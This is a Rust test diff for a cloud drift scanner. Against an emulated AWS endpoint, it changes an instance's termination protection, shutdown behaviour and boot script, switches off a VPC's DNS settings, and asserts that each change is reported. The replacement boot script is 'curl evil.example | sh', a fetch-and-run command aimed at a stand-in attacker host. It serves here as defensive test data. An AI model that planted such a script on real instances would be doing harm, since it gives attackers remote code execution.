@@ -69,10 +69,22 @@ async fn the_estate_scans_clean_after_a_fresh_apply() {
         "estate fresh-apply scan: {:?} wall, {total} API calls: {calls:?}",
         run.elapsed
     );
-    // Exactly one call per operation, route tables and associations
-    // sharing theirs, and STS.
-    assert!(calls.values().all(|n| *n == 1), "{calls:?}");
+    // Exactly one call per listing operation (route tables and
+    // associations sharing theirs) and STS; per-resource reads only for
+    // what the state manages: three for its one instance, two for its VPC.
+    for (op, n) in &calls {
+        let want = match op.as_str() {
+            "DescribeInstanceAttribute" => 3,
+            "DescribeVpcAttribute" => 2,
+            _ => 1,
+        };
+        assert_eq!(*n, want, "{op}: {calls:?}");
+    }
     assert_eq!(calls.get("DescribeRouteTables"), Some(&1), "{calls:?}");
+    assert_eq!(
+        report["scan"]["detail_calls"],
+        json!({"DescribeInstanceAttribute": 3, "DescribeVpcAttribute": 2})
+    );
 }
 
 #[tokio::test]
@@ -229,6 +241,56 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
         .await
         .unwrap();
 
+    // aws_instance: termination protection off, shutdown now terminates,
+    // the boot script replaced (settings only DescribeInstanceAttribute
+    // reads).
+    let bastion = id("aws_instance.bastion");
+    let off = aws_sdk_ec2::types::AttributeBooleanValue::builder()
+        .value(false)
+        .build();
+    ec2.modify_instance_attribute()
+        .instance_id(&bastion)
+        .disable_api_termination(off.clone())
+        .send()
+        .await
+        .unwrap();
+    ec2.modify_instance_attribute()
+        .instance_id(&bastion)
+        .instance_initiated_shutdown_behavior(
+            aws_sdk_ec2::types::AttributeValue::builder()
+                .value("terminate")
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    ec2.modify_instance_attribute()
+        .instance_id(&bastion)
+        .user_data(
+            aws_sdk_ec2::types::BlobAttributeValue::builder()
+                .value(aws_sdk_ec2::primitives::Blob::new(
+                    "#!/bin/sh\ncurl evil.example | sh\n",
+                ))
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    // aws_vpc: both DNS settings switched off.
+    let vpc = id("aws_vpc.main");
+    ec2.modify_vpc_attribute()
+        .vpc_id(&vpc)
+        .enable_dns_support(off.clone())
+        .send()
+        .await
+        .unwrap();
+    ec2.modify_vpc_attribute()
+        .vpc_id(&vpc)
+        .enable_dns_hostnames(off)
+        .send()
+        .await
+        .unwrap();
+
     let (run, report) = scan_json(&emu, &ws, &[]);
 
     // Findings come worst first within each kind; compare as sets.
@@ -244,6 +306,15 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
             ),
             row("changed", "aws_default_route_table.default", &["route"]),
             row("changed", "aws_default_security_group.default", &["egress"]),
+            row(
+                "changed",
+                "aws_instance.bastion",
+                &[
+                    "disable_api_termination",
+                    "instance_initiated_shutdown_behavior",
+                    "user_data"
+                ]
+            ),
             row("changed", "aws_launch_template.web", &["latest_version"]),
             row("changed", "aws_nat_gateway.nat", &["tags.Name"]),
             row("changed", "aws_network_acl.private", &["ingress"]),
@@ -251,6 +322,11 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
                 "changed",
                 "aws_network_interface.appliance",
                 &["description"]
+            ),
+            row(
+                "changed",
+                "aws_vpc.main",
+                &["enable_dns_hostnames", "enable_dns_support"]
             ),
             row("changed", "aws_vpc_endpoint.s3", &["route_table_ids"]),
             row("missing", "aws_eip_association.bastion", &[]),
@@ -273,5 +349,26 @@ async fn each_out_of_band_change_is_reported_on_what_declares_it() {
         acl["actual"],
         json!({"rule_no": 200, "action": "allow", "protocol": "tcp", "cidr_block": "0.0.0.0/0", "from_port": 22, "to_port": 22})
     );
+    // The script is compared by digest: its text appears nowhere.
+    assert!(!run.stdout.contains("evil.example"), "{}", run.stdout);
+    let user_data = &report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["address"] == json!("aws_instance.bastion"))
+        .unwrap()["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path"] == json!("user_data"))
+        .unwrap()
+        .clone();
+    for side in ["expected", "actual"] {
+        let digest = user_data[side].as_str().unwrap();
+        assert!(
+            digest.len() == 40 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
+            "{user_data}"
+        );
+    }
     assert_eq!(run.code, 1);
 }
